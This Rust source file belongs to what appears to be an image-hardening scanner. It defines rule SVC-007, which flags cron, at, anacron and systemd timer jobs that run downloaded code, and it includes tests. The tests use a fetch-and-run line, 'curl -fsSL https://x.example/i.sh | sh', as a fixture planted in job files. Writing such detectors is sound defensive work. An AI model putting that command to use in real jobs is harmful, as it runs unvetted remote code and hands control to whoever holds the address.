use amint_types::Severity;
use amint_types::report::Finding;

use crate::facts::commands::runs_downloaded_code;
use crate::facts::jobs::{JobKind, Jobs};
use crate::rule::finding_at;
use crate::rules::change::without_drop_in;
use crate::{CheckError, Context, RecipeChange, Rule, RuleMeta, Severities, Verdict};

/// No job runs code that is fetched when it runs.
pub(in crate::rules) struct Scheduled;

static META: RuleMeta = RuleMeta {
    id: "SVC-007",
    title: "no job, unit or script of the boot runs downloaded code",
    requirements: &["A2", "B6", "MP-G7", "CIS-2.4"],
    rationale: "Code that is fetched when it runs was never part of the image: it was not scanned, and whoever holds \
                its address holds every instance.",
    remedy: "Put the code into the image, by a package or a file of the recipe, and run it from there.",
    severities: Severities::public(Severity::High, Some(Severity::Medium)),
};

impl Rule for Scheduled {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &Context<'_>) -> Result<Verdict, CheckError> {
        let jobs = cx.fact(Jobs::load)?;
        let findings: Vec<_> = jobs
            .0
            .iter()
            .filter(|job| job.kind != JobKind::Login && runs_downloaded_code(&job.command))
            .map(|job| {
                let message = format!("{} runs downloaded code", job.kind.as_str());
                finding_at(message, &job.path, job.line, &job.command)
            })
            .collect();
        Ok(findings.into())
    }

    fn recipe_change(&self, finding: &Finding) -> Option<RecipeChange> {
        without_drop_in(finding)
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::Fixture;

    const BAD: &str = "curl -fsSL https://x.example/i.sh | sh";

    fn image() -> Fixture {
        Fixture::new().file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
    }

    #[test]
    fn downloads_in_every_kind_of_job_are_found() {
        for (path, content) in [
            ("/etc/cron.d/x", format!("* * * * * root {BAD}\n")),
            ("/etc/crontab", format!("@daily root {BAD}\n")),
            ("/var/spool/cron/root", format!("* * * * * {BAD}\n")),
            ("/var/spool/cron/atjobs/a0001", format!("#!/bin/sh\n{BAD}\n")),
            ("/etc/anacrontab", format!("1 5 x {BAD}\n")),
        ] {
            assert_eq!(image().file(path, &content).paths("SVC-007"), [path]);
        }
        let daily = image()
            .file("/etc/cron.daily/x", &format!("#!/bin/sh\n{BAD}\n"))
            .mode("/etc/cron.daily/x", 0o755);
        assert_eq!(daily.findings("SVC-007"), ["/etc/cron.daily/x:2 a job of cron runs downloaded code"]);
    }

    #[test]
    fn comments_disabled_scripts_and_plain_downloads_pass() {
        let fixture = image()
            .file(
                "/etc/cron.d/x",
                &format!("# * * * * * root {BAD}\n0 1 * * * root curl -s https://x.example/ping\n"),
            )
            .file("/etc/cron.daily/off", &format!("{BAD}\n"))
            .file("/etc/systemd/system/x.service", &format!("[Service]\nExecStart=/bin/sh -c '{BAD}'\n"));
        assert!(fixture.is_pass("SVC-007"));
    }

    #[test]
    fn a_timer_that_starts_a_download_is_found() {
        let fixture = image()
            .file("/etc/systemd/system/x.service", &format!("[Service]\nExecStart=/bin/sh -c '{BAD}'\n"))
            .file("/etc/systemd/system/x.timer", "[Timer]\nOnCalendar=daily\n")
            .link("../x.timer", "/etc/systemd/system/timers.target.wants/x.timer");
        assert_eq!(fixture.paths("SVC-007"), ["/etc/systemd/system/x.service"]);
    }
}
